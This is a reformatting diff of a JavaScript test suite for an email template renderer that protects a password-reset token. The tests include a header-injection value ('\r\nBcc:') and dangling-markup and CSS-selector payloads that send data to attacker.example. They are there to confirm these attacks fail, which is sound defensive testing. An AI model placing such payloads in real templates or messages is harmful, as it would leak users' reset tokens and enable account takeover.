@@ -23,7 +23,9 @@ describe('template rendering', () => {
   });
 
   it('keeps the subject on one line', () => {
-    expect(renderEmail({ subject: '{{a}}\n{{b}}', body: 'x' }, { a: 'one', b: 'two\r\nBcc: someone@example.com' }).subject).toBe('one two Bcc: someone@example.com');
+    expect(renderEmail({ subject: '{{a}}\n{{b}}', body: 'x' }, { a: 'one', b: 'two\r\nBcc: someone@example.com' }).subject).toBe(
+      'one two Bcc: someone@example.com',
+    );
   });
 
   it('names the field of a template that would not render', () => {
@@ -38,7 +40,14 @@ describe('template rendering', () => {
     const resetUrl = 'https://app.example/reset-password?token=kpr_secret';
 
     it('refuses a template that reaches the link, however it is spelled', () => {
-      for (const source of ['{{resetUrl}}', '{{this.resetUrl}}', '{{@root.resetUrl}}', '{{#with this}}{{resetUrl}}{{/with}}', '{{lookup this "resetUrl"}}', '<a href="{{#if resetUrl}}x{{/if}}">']) {
+      for (const source of [
+        '{{resetUrl}}',
+        '{{this.resetUrl}}',
+        '{{@root.resetUrl}}',
+        '{{#with this}}{{resetUrl}}{{/with}}',
+        '{{lookup this "resetUrl"}}',
+        '<a href="{{#if resetUrl}}x{{/if}}">',
+      ]) {
         expect(templateProblem('subject', source, action)).toMatchObject({ field: 'subject', issue: expect.stringContaining('{{resetUrl}}') });
       }
       expect(templateProblem('body', '<p>Hello {{name}}</p>', action)).toBeNull();
@@ -46,16 +55,31 @@ describe('template rendering', () => {
     });
 
     it('never gives the link to the template and places it in a fixed block after the body', () => {
-      const rendered = renderEmail({ subject: '{{#each this}}{{@key}}={{this}} {{/each}}', body: '<p>{{#each this}}{{this}} {{/each}}</p>' }, { name: 'Ada', resetUrl }, action);
+      const rendered = renderEmail(
+        { subject: '{{#each this}}{{@key}}={{this}} {{/each}}', body: '<p>{{#each this}}{{this}} {{/each}}</p>' },
+        { name: 'Ada', resetUrl },
+        action,
+      );
       expect(rendered.subject).toBe('name=Ada');
       expect(rendered.html.match(/kpr_secret/g)).toHaveLength(1);
-      expect(rendered.html).toMatch(/<p>Ada <\/p>\n<p[^>]*><a href="https:\/\/app\.example\/reset-password\?token=kpr_secret"[^>]*>Reset my password<\/a><\/p>$/);
+      expect(rendered.html).toMatch(
+        /<p>Ada <\/p>\n<p[^>]*><a href="https:\/\/app\.example\/reset-password\?token=kpr_secret"[^>]*>Reset my password<\/a><\/p>$/,
+      );
       expect(rendered.text).toContain(`Reset my password [${resetUrl}]`);
-      expect(renderEmail({ subject: 'Reset', body: '<p>Café {{name}}</p>' }, { name: 'A & <B>', resetUrl }, action).html).toMatch(/^<p>Café A &amp; &lt;B&gt;<\/p>\n/);
+      expect(renderEmail({ subject: 'Reset', body: '<p>Café {{name}}</p>' }, { name: 'A & <B>', resetUrl }, action).html).toMatch(
+        /^<p>Café A &amp; &lt;B&gt;<\/p>\n/,
+      );
     });
 
     it('closes what the workspace’s body leaves open and drops styles, so the block cannot be swallowed or probed', () => {
-      for (const body of ['<img src="https://attacker.example/?rest=', '<a href="https://attacker.example/?x=', '<!-- ', '<textarea>', '<style>a[href*="kpr_"]{background:url(https://attacker.example/)}</style>', '<table><tr><td>']) {
+      for (const body of [
+        '<img src="https://attacker.example/?rest=',
+        '<a href="https://attacker.example/?x=',
+        '<!-- ',
+        '<textarea>',
+        '<style>a[href*="kpr_"]{background:url(https://attacker.example/)}</style>',
+        '<table><tr><td>',
+      ]) {
         const rendered = renderEmail({ subject: 'Reset', body }, { resetUrl }, action);
         expect(rendered.html).toMatch(/\n<p[^>]*><a href="https:\/\/app\.example\/reset-password\?token=kpr_secret"[^>]*>Reset my password<\/a><\/p>$/);
         expect(rendered.html).not.toContain('<style');
